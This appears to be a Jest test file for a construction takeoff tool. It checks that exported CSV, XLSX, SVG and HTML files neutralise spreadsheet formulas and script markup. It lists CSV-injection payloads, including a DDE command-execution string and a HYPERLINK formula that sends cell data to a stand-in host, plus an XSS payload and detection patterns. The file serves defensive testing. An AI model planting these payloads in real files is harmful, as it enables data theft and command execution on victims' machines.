/** Names that would run as a formula or a script are only text in every file that is written. */
import fs from "node:fs";
import path from "node:path";
import { worksheetFunctions } from "../../src/worksheet/registry.js";
import { openWorkbook } from "../../src/host/engine/index.js";
import { readEntries, unpack } from "../../src/host/engine/zip.js";
import { safeText, toCsv } from "../../src/pane/csv.js";
import { csvText } from "../../src/cli/csv.js";
import { file } from "../host/make.js";
import { emptyFolder, removeFolders, run } from "./run.js";
import { SHED, row } from "./shed.js";

jest.setTimeout(120_000);
afterAll(removeFolders);

/** What a spreadsheet would run, or a page. */
const FORMULAS = [
  '=HYPERLINK("http://harm.test/"&A1,"see")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "Lot;=1+1;b",
];
const MARKUP = `</text></svg><script>harm()</script><img src=x onerror=harm()>"'&`;

/** Lines of comma-separated text as their fields. */
function fieldsOf(csv: string): string[] {
  const fields: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g;
  for (const [, quoted, bare] of csv.replace(/^\ufeff/, "").matchAll(field)) {
    fields.push(quoted === undefined ? (bare ?? "") : quoted.replace(/""/g, '"'));
  }
  return fields;
}

const runsAsFormula = (field: string): boolean =>
  /^[\s\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(field) && !/^-?\d+(?:\.\d+)?$/.test(field);

test.each(FORMULAS)("as a field of comma-separated text: %j", (text) => {
  for (const written of [csvText([[text, 1]]), toCsv([[text, 1]])]) {
    const fields = fieldsOf(written);
    expect(fields.some((each) => each.replace(/;'/g, ";").includes(text.trim()))).toBe(true);
    expect(fields.filter(runsAsFormula)).toEqual([]);
  }
  expect(runsAsFormula(safeText(text))).toBe(false);
});

/** What the cells of a line come to where columns part at another sign: quotes count at the start of a cell only. */
function cellsAt(separator: string, csv: string): string[] {
  const cells: string[] = [];
  const cell = new RegExp(
    `("(?:[^"]|"")*(?:"|$))?([^${separator}\r\n]*)(?:[${separator}\r\n]|$)`,
    "g"
  );
  for (const [, quoted = "", rest = ""] of csv.replace(/^\ufeff/, "").matchAll(cell)) {
    cells.push(quoted.replace(/^"|"$/g, "").replace(/""/g, '"') + rest);
  }
  return cells;
}

/** A formula in the middle of a text, which is the start of a cell where columns part at the sign before it. */
const INNER = [
  "=1+1",
  " =1+1",
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "＝1+1",
  '"=1+1&"',
  '" "=1&"',
];
test.each([";", "|", "\t", "\n", "\r\n"].flatMap((sign) => INNER.map((text) => [sign, text])))(
  "after %j in a text: %j",
  (sign, formula) => {
    const text = `Lot 12${sign}${formula}${sign}b`;
    for (const row of [[text], ["first", text, 1], [1, text, text], ["x", "-3", text]]) {
      for (const written of [csvText([row, row]), toCsv([row])]) {
        expect(fieldsOf(written).filter(runsAsFormula)).toEqual([]);
        for (const separator of [";", "|", "\t"]) {
          expect(cellsAt(separator, written).filter(runsAsFormula)).toEqual([]);
        }
      }
    }
  }
);

test.each([
  "Wall 3; gable -2 in",
  "a;b|c",
  "5/8 in - see plan",
  '1-7/8" + foam',
  "north;south",
  "e-mail: a@b.test",
  "-12",
  "-1.5",
  "it's",
])("a text without a formula in it stays as it is: %j", (text) => {
  expect(safeText(text)).toBe(text);
  for (const written of [csvText([[text]]), toCsv([[text]])]) {
    expect(fieldsOf(written)[0]).toBe(text);
  }
});

test("numbers get no apostrophe", () => {
  expect(csvText([[-3, 2.5, -1e-7, 0]])).toBe("-3,2.5,-1e-7,0\r\n");
  expect(toCsv([[-3, 2.5, -1e-7, 0]])).toBe("\ufeff-3,2.5,-1e-7,0\r\n");
});

/** Every file below a folder, by its path in it. */
function filesIn(folder: string): Map<string, Buffer> {
  const names = fs.readdirSync(folder, { recursive: true, encoding: "utf8" });
  return new Map(
    names
      .filter((name) => fs.statSync(path.join(folder, name)).isFile())
      .map((name) => [name, fs.readFileSync(path.join(folder, name))])
  );
}

test("as the name of a house, a wall, an opening, an item and a supplier, in every file of a takeoff", async () => {
  const folder = emptyFolder();
  for (const [index, name] of [...FORMULAS, MARKUP].entries()) {
    const wall = `${name} ${index}`;
    const bytes = await file(
      {
        ...SHED,
        Setup: { ...SHED.Setup, Y1: "House", Z1: `'${name}`.slice(1) },
        Walls: { ...SHED.Walls, ...row(2, wall, "6'", "8'", "past", "past") },
        Openings: { ...SHED.Openings, ...row(2, wall, name, "1'-6\"", 0, "3'", "6'-8\"") },
      },
      (library) => {
        // typed as text, not as a formula
        const setup = library.getWorksheet("Setup");
        const walls = library.getWorksheet("Walls");
        const openings = library.getWorksheet("Openings");
        if (!setup || !walls || !openings) throw new Error("a sheet is missing");
        setup.getCell("Z1").value = name;
        walls.getCell("A2").value = wall;
        openings.getCell("A2").value = wall;
        openings.getCell("B2").value = name;
      }
    );
    fs.writeFileSync(path.join(folder, `house ${index}.xlsx`), bytes);
  }
  fs.writeFileSync(
    path.join(folder, "prices.csv"),
    csvQuoted([
      ["Item", "Size", "Price", "Supplier"],
      ["Panel", "48 x 96 in", "30", FORMULAS[0] as string],
      ["Tape", "3 in", "20", MARKUP],
    ])
  );
  const ran = await run("takeoff", [".", "--prices", "prices.csv"], { from: folder });
  expect(ran.code).toBe(0);
  expect(ran.out + ran.err).not.toMatch(/[\u0000-\u0008\u001b]/);
  const files = filesIn(path.join(folder, "takeoff"));
  const kinds = { csv: 0, xlsx: 0, svg: 0, html: 0 };
  for (const [name, bytes] of files) {
    const kind = path.extname(name).slice(1);
    if (kind === "csv") {
      kinds.csv++;
      const text = bytes.toString("utf8");
      for (const cells of [
        fieldsOf(text),
        ...[";", "|", "\t"].map((sign) => cellsAt(sign, text)),
      ]) {
        expect([name, cells.filter(runsAsFormula)]).toEqual([name, []]);
      }
    } else if (kind === "xlsx") {
      kinds.xlsx++;
      // the formulas of a workbook are those that were typed as formulas
      for (const { formula } of openWorkbook(bytes, worksheetFunctions).formulas()) {
        expect([name, formula]).toEqual([name, expect.not.stringMatching(/HYPERLINK|cmd|1\+1/)]);
      }
      for (const entry of readEntries(bytes)) {
        if (!entry.path.endsWith(".xml")) continue;
        expect(new TextDecoder().decode(unpack(entry))).not.toMatch(/<script|<img/);
      }
    } else if (kind === "svg" || kind === "html") {
      kinds[kind]++;
      const text = bytes.toString("utf8");
      const tags = text.match(/<[a-z][^>]*>/gi) ?? [];
      expect(tags.length).toBeGreaterThan(5);
      expect([
        name,
        tags.filter((tag) => /^<(?:script|img|iframe|object|embed|foreignObject)/i.test(tag)),
      ]).toEqual([name, []]);
      // attributes by name, their values taken out: a value in quotes is text
      const bare = tags.map((tag) => tag.replace(/"[^"]*"/g, '""'));
      const acting = bare.filter((tag) =>
        /\s(?:on[a-z]+|href|src|xlink:href|action)\s*=/i.test(tag)
      );
      expect([name, acting]).toEqual([name, []]);
    }
  }
  for (const count of Object.values(kinds)) expect(count).toBeGreaterThan(0);
});

function csvQuoted(rows: readonly (readonly string[])[]): string {
  return rows
    .map((each) => each.map((field) => `"${field.replace(/"/g, '""')}"`).join(","))
    .join("\r\n");
}
